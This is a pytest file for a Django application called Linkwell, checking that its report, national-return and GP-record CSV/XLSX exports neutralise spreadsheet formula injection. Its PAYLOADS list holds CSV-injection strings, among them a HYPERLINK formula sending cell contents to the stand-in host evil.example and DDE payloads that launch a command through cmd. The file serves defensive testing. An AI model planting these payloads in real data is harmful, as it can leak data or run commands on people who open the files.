"""No text in a CSV or XLSX file Linkwell writes can run as a spreadsheet formula (issue 15,
item 3): the rule in `linkwell/spreadsheets.py`, and every writer that uses it."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from linkwell import write_guard
from linkwell.accounts.models import Organisation, Role, User
from linkwell.cases import services as cases
from linkwell.directory.models import TaxonomyTerm
from linkwell.spreadsheets import TRIGGERS, cell
from tests.factories import make_case, user_with_role
from tests.reporting.world import build_world

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+3",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "\uff1d1+1",  # full-width equals sign
]


def live(value) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    text = str(value).lstrip(" \"'\u00a0\u3000") if not str(value).startswith("'") else ""
    return bool(text) and text[0] in TRIGGERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_neutralised(payload):
    assert cell(payload) == "'" + payload and not live(cell(payload))


@pytest.mark.parametrize("value", ["-3", "+0.5", "-1.5e3", 7, -2.5, None, "", "Walking", "a=b"])
def test_numbers_and_plain_text_are_untouched(value):
    assert cell(value) == value


@pytest.fixture
def poisoned(db):
    """A reporting world whose taxonomy terms, PCNs, practices and link workers are named by
    an attacker."""
    world = build_world()
    for model in (TaxonomyTerm, Organisation):
        for i, pk in enumerate(model.objects.values_list("pk", flat=True)):
            model.objects.filter(pk=pk).update(name=PAYLOADS[i % len(PAYLOADS)])
    for i, pk in enumerate(User.objects.values_list("pk", flat=True)):
        User.objects.filter(pk=pk).update(
            first_name=PAYLOADS[i % len(PAYLOADS)], last_name=PAYLOADS[(i + 1) % len(PAYLOADS)]
        )
    return world


def _cells_of_csv(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.django_db
def test_report_csv_and_xlsx_exports_carry_no_live_formula(client, poisoned):
    client.force_login(poisoned.manager)
    cells = _cells_of_csv(client.get("/reporting/export/all.csv").content.decode())
    assert any(c.startswith("'=") for c in cells), "the payloads must reach the export"
    assert not [c for c in cells if live(c)]
    book = load_workbook(io.BytesIO(client.get("/reporting/export/all.xlsx").content))
    found = [c for ws in book for r in ws.iter_rows() for c in r]
    assert any(str(c.value).startswith("'=") for c in found)
    assert not [c.value for c in found if c.data_type == "f" or live(c.value or "")]


@pytest.mark.django_db
def test_the_national_return_carries_no_live_formula(client, poisoned):
    client.force_login(poisoned.manager)
    month = (timezone.localdate().replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
    cells = _cells_of_csv(
        client.get(f"/reporting/national-return.csv?month={month}").content.decode()
    )
    assert any(c.startswith("'") for c in cells)
    assert not [c for c in cells if live(c)]


@pytest.mark.django_db
def test_the_gp_record_csv_carries_no_live_formula(practice, tmp_path):
    worker = user_with_role(Role.LINK_WORKER, practice.parent)
    case = make_case(practice=practice, by=worker, family_name="Smith", given_name="Ann")
    cases.record_contact(case=case, at=timezone.now(), mode="phone", minutes=5, notes="", by=worker)
    # names reach the database through other doors too (an import, the admin): the writer
    # must not trust them
    with write_guard.allowed("a name written past the services' checks"):
        type(case.person).objects.filter(pk=case.person_id).update(
            family_name='=HYPERLINK("http://evil.example")', given_name="@SUM(1)"
        )
    since = (timezone.localdate() - timedelta(days=30)).isoformat()
    call_command("export", "gp-record", "--since", since, "--out", str(tmp_path))
    cells = _cells_of_csv((tmp_path / f"{practice.ods_code}.csv").read_text())
    assert '\'=HYPERLINK("http://evil.example")' in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if live(c)]
